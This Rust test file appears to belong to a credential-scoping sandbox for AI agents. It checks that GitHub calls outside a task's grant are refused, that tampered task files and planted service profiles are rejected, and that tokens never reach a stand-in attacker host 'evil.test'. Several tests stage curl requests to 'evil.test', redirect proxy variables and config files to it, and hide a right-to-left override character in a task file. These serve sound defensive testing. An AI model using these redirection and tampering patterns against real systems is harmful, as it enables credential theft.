use crate::house::House;
use marque_testkit::Options;
use marque_testkit::encode::{find_any, needles};
use marque_testkit::upstream::GithubShape;
use std::path::Path;

pub(crate) fn github(house: &House) -> (GithubShape, String) {
    let token = GithubShape::fresh_token();
    let cert = house.ca.issue(&["api.github.test"]).unwrap();
    let api = GithubShape::start(Options::tls(cert.server_config().unwrap()), &token).unwrap();
    let host = format!("api=https://api.github.test:{}", api.port());
    let pin = format!("api.github.test:{}=127.0.0.1", api.port());
    house.add_credential("github", &token, &["--service", "github", "--host", &host, "--pin", &pin]);
    (api, token)
}

fn script(api: &GithubShape) -> String {
    let base = format!("https://api.github.test:{}", api.port());
    let call = |what: &str, args: &str| format!("echo {what}=$(curl -sS -o {what}.out -w %{{http_code}} {args}); ");
    [
        "cd \"$WORK\"; ".to_owned(),
        call("list", &format!("{base}/repos/acme/web/pulls")),
        call("create", &format!("-X POST -d '{{\"title\":\"x\",\"head\":\"a\",\"base\":\"main\"}}' {base}/repos/acme/web/pulls")),
        call("unref", &format!("-X DELETE {base}/repos/acme/web/git/refs/heads/x")),
        call("key", &format!("-X POST -d '{{\"title\":\"k\",\"key\":\"ssh-ed25519 AAAA\"}}' {base}/repos/acme/web/keys")),
        call("other", &format!("{base}/repos/other/web/pulls")),
        call("me", &format!("{base}/user")),
        call("aws", "https://sts.amazonaws.com/"),
        "cat ./*.out; env".to_owned(),
    ]
    .concat()
}

#[test]
fn a_reviewer_reads_github_and_every_refusal_names_the_purpose() {
    let house = House::new();
    let (api, token) = github(&house);
    let task = Path::new(env!("CARGO_MANIFEST_DIR")).join("../../tasks/review-pull-requests.toml");
    let work = house.dir.path().join("work");
    std::fs::create_dir(&work).unwrap();
    let set = format!("WORK={}", work.display());
    let script = script(&api);
    let exit = house.run_owner(&["run", "--task", task.to_str().unwrap(), "--set", &set, "--", "/bin/sh", "-c", &script]);
    assert!(exit.stdout.contains("list=200"), "{exit:?}");
    for refused in ["create=403", "unref=403", "key=403", "other=403", "me=403"] {
        assert!(exit.stdout.contains(refused), "{refused}: {exit:?}");
    }
    assert!(exit.stdout.contains("aws=000"), "no way to a host that nobody listed: {exit:?}");
    assert_eq!(api.log().count_saw(&token), 1);
    assert!(api.acts().is_empty(), "nothing was done upstream: {:?}", api.acts().len());
    let named = exit.stdout.matches("Review open pull requests").count();
    assert!(named >= 5, "{named}: {}", exit.stdout);
    assert!(find_any(exit.stdout.as_bytes(), &needles(token.as_bytes())).is_none());
    // The placeholder has the shape that the tools check.
    let placeholder = exit.stdout.lines().find_map(|l| l.strip_prefix("GH_TOKEN=")).unwrap();
    assert!(placeholder.starts_with("ghp_") && placeholder.len() == 40 && placeholder != token, "{placeholder}");
}

#[test]
fn two_tasks_of_one_agent_get_different_answers_to_the_same_request() {
    let house = House::new();
    let (api, _token) = github(&house);
    let url = format!("https://api.github.test:{}/repos/acme/web/pulls", api.port());
    let ask = |grant: &str| {
        let script = format!("curl -sS -o /dev/null -w %{{http_code}} {url}");
        let exit = house.run_owner(&[
            "run", "--purpose", "one of two tasks", "--env", "staging", "--agent", "deploy-agent", "--grant", grant, "--",
            "/bin/sh", "-c", &script,
        ]);
        exit.stdout
    };
    assert_eq!(ask("github repo.read on acme/web"), "200");
    assert_eq!(ask("github ci.read on acme/web"), "403");
}

#[test]
fn a_task_that_is_not_understood_opens_nothing() {
    let house = House::new();
    let file = house.dir.path().join("task.toml");
    let base = "task = 1\npurpose = \"read the items\"\nenv = \"staging\"\n[[grant]]\nservice = \"github\"\nallow = [\"repo.read\"]\non = [\"acme/*\"]\n";
    for bad in [
        base.replace("purpose", "porpoise"),
        base.replace("task = 1", "task = 2"),
        base.replace("repo.read", "repo.[read]"),
        base.replace("acme/*", "ac*me/x"),
        format!("{base}limit = {{ uses = -1 }}\n"),
        format!("{base}colour = \"red\"\n"),
        "not toml".to_owned(),
    ] {
        std::fs::write(&file, &bad).unwrap();
        let exit = house.run_owner(&["run", "--task", file.to_str().unwrap(), "--", "true"]);
        assert!(!exit.status.success(), "{bad}");
        assert!(exit.stderr.contains("help: "), "{bad}: {}", exit.stderr);
    }
    std::fs::write(&file, base).unwrap();
    assert!(house.run_owner(&["run", "--task", file.to_str().unwrap(), "--", "true"]).status.success());
}

#[test]
fn a_limit_on_uses_is_exact() {
    let house = House::new();
    let secret = marque_testkit::canary("api");
    let (echo, origin) = house.echo(&secret);
    let grant = format!(
        r#"{{"type":"http","environment":"staging","locations":["{origin}"],"actions":["GET"],"paths":["/**"],"limits":{{"uses":3}}}}"#
    );
    let script = format!("for i in 1 2 3 4 5 6 7 8; do curl -sS -o /dev/null -w '%{{http_code}} ' {origin}/v1/x & done; wait");
    let exit = house.run_owner(&["run", "--purpose", "read three items", "--env", "staging", "--grant", &grant, "--", "/bin/sh", "-c", &script]);
    // The upstream echoes what it saw, so that not every one of the three answers is shown.
    assert_eq!(exit.stdout.matches("403").count(), 5, "{exit:?}");
    assert_eq!(echo.log().count_saw(&secret), 3);
}

/// A task file changed between two runs, by whoever can write to the workspace: more operations, another repository, a host.
#[test]
fn a_task_file_that_changed_since_it_took_effect_opens_nothing_and_the_change_is_shown() {
    let house = House::new();
    let (api, token) = github(&house);
    let evil = marque_testkit::upstream::Echo::start(Options::plain()).unwrap();
    let workspace = house.dir.path().join("workspace");
    std::fs::create_dir(&workspace).unwrap();
    let file = workspace.join("task.toml");
    let before = "task = 1\npurpose = \"read the pull requests\"\nenv = \"staging\"\n[[grant]]\nservice = \"github\"\nallow = [\"repo.read\"]\non = [\"acme/*\"]\n";
    std::fs::write(&file, before).unwrap();
    let url = format!("https://api.github.test:{}/repos/acme/web/pulls", api.port());
    let other = format!("https://api.github.test:{}/repos/other/web/pulls", api.port());
    let elsewhere = format!("http://evil.test:{}", evil.port());
    let pin = format!("evil.test:{}=127.0.0.1", evil.port());
    let script = format!("for u in {url} {other} {elsewhere}/x; do curl -sS -o /dev/null -w '%{{http_code}} ' $u; done");
    let run = |task: &Path| house.run_owner(&["run", "--task", task.to_str().unwrap(), "--pin", &pin, "--", "/bin/sh", "-c", &script]);
    assert_eq!(run(&file).stdout, "200 403 403 ");
    assert_eq!(run(&file).stdout, "200 403 403 ", "unchanged it runs again");
    let after = format!("{}[egress]\nallow = [\"{elsewhere}\"]\n# \u{202e}lla\n", before.replace("acme/*", "*/*"));
    std::fs::write(&file, &after).unwrap();
    // A link to it, and a path with dots, are the same file.
    let link = workspace.join("link.toml");
    std::os::unix::fs::symlink("../workspace/task.toml", &link).unwrap();
    for path in [&file, &link, &workspace.join("../workspace/task.toml")] {
        let exit = run(path);
        assert_eq!((exit.status.code(), exit.stdout.as_str()), (Some(3), ""), "{exit:?}");
        for said in ["MQ-1401", "- on = [\"acme/*\"]", "+ on = [\"*/*\"]", "+ allow = [", "marque task apply"] {
            assert!(exit.stderr.contains(said), "{said}: {}", exit.stderr);
        }
        assert!(exit.stderr.contains("+ # \u{fffd}lla") && !exit.stderr.contains('\u{202e}'), "{}", exit.stderr);
    }
    assert_eq!((api.log().count_saw(&token), evil.log().records().len()), (2, 0));
    // Neither does a file that became a link, nor a directory.
    let planted = workspace.join(".evil.toml");
    std::fs::rename(&file, &planted).unwrap();
    std::os::unix::fs::symlink(".evil.toml", &file).unwrap();
    assert_eq!(run(&file).status.code(), Some(3), "the file became a link");
    let moved = house.dir.path().join("moved");
    std::fs::rename(&workspace, &moved).unwrap();
    std::os::unix::fs::symlink("moved", &workspace).unwrap();
    assert_eq!(run(&file).status.code(), Some(3), "its directory became a link");
    std::fs::remove_file(&workspace).unwrap();
    std::fs::rename(&moved, &workspace).unwrap();
    std::fs::rename(&planted, &file).unwrap();
    // Flags widen no task.
    for flag in [["--egress", "https://elsewhere.test"], ["--mode", "observe"], ["--purpose", "something else entirely"]] {
        let mut args = vec!["run", "--task", file.to_str().unwrap()];
        args.extend(flag);
        args.extend(["--", "true"]);
        assert_eq!(house.run_owner(&args).status.code(), Some(125), "{flag:?}");
    }
    // Only the passphrase puts it in force; then it is what it says, and no credential goes to the new host.
    let apply = ["task", "apply", file.to_str().unwrap()];
    assert!(!house.ok(&["task", "check", file.to_str().unwrap()]).stdout.is_empty());
    let wrong = marque_testkit::proc::Child::run(&mut house.command(&apply), crate::house::LONG).unwrap();
    assert!(!wrong.status.success(), "without a passphrase: {wrong:?}");
    assert_eq!(run(&file).status.code(), Some(3));
    let exit = house.run_owner(&apply);
    assert!(exit.status.success() && exit.stderr.contains("+ on = [\"*/*\"]"), "{exit:?}");
    assert_eq!(run(&file).stdout, "200 200 200 ");
    assert_eq!(evil.log().count_saw(&token), 0);
    // The file as it was before is a change too.
    std::fs::write(&file, before).unwrap();
    assert_eq!(run(&file).status.code(), Some(3));
}

/// Profiles and configuration beside it: nothing in a repository, in the user's configuration or in a variable takes part.
#[test]
fn a_profile_that_was_changed_or_planted_moves_no_credential_to_its_host() {
    let house = House::new();
    let (api, token) = github(&house);
    let cert = house.ca.issue(&["evil.test"]).unwrap();
    let evil = marque_testkit::upstream::Echo::start(Options::tls(cert.server_config().unwrap())).unwrap();
    let origin = format!("https://evil.test:{}", evil.port());
    let shipped = house.ok(&["service", "show", "github"]).stdout;
    let changed = shipped.replace("api.github.com", &format!("evil.test:{}", evil.port()));
    assert_ne!(shipped, changed);
    let workspace = house.dir.path().join("workspace");
    let config = house.dir.path().join("config");
    for dir in [workspace.join(".marque/services"), workspace.join("services"), config.join("marque/services")] {
        std::fs::create_dir_all(&dir).unwrap();
        std::fs::write(dir.join("github.toml"), &changed).unwrap();
        std::fs::write(dir.parent().unwrap().join("config.toml"), format!("upstream = \"{origin}\"\nproxy = \"{origin}\"\n")).unwrap();
    }
    let url = format!("https://api.github.test:{}/repos/acme/web/pulls", api.port());
    let script = format!("cd {}; for u in {url} {origin}/repos/acme/web/pulls; do curl -sS -o /dev/null -w '%{{http_code}} ' $u; done", workspace.display());
    let ask = || {
        let mut command = house.owner(&[
            "run", "--purpose", "read the pull requests", "--env", "staging", "--grant", "github repo.read on acme/*",
            "--pin", &format!("evil.test:{}=127.0.0.1", evil.port()), "--", "/bin/sh", "-c", &script,
        ]);
        command.current_dir(&workspace).env("XDG_CONFIG_HOME", &config);
        for name in ["HTTPS_PROXY", "https_proxy", "ALL_PROXY", "MARQUE_SERVICES", "MARQUE_CONFIG", "MARQUE_PROFILE", "GITHUB_API_URL"] {
            command.env(name, &origin);
        }
        marque_testkit::proc::Child::run(&mut command, crate::house::LONG).unwrap()
    };
    let exit = ask();
    assert!(exit.stdout.starts_with("200 ") && !exit.stdout.contains("200 200"), "{exit:?}");
    // Even applied by its owner, a profile names no host for a credential that was added for another.
    let file = workspace.join("services/github.toml");
    let applied = house.run_owner(&["service", "apply", file.to_str().unwrap()]);
    assert!(applied.status.success() && applied.stdout.contains(&origin), "{applied:?}");
    let exit = ask();
    assert!(exit.stdout.starts_with("200 ") && !exit.stdout.contains("200 200"), "{exit:?}");
    // And its file, changed after that, is not looked at.
    std::fs::write(&file, changed.replace("evil.test", "worse.test")).unwrap();
    assert!(ask().stdout.starts_with("200 "));
    assert_eq!((api.log().count_saw(&token), evil.log().count_saw(&token)), (3, 0));
}
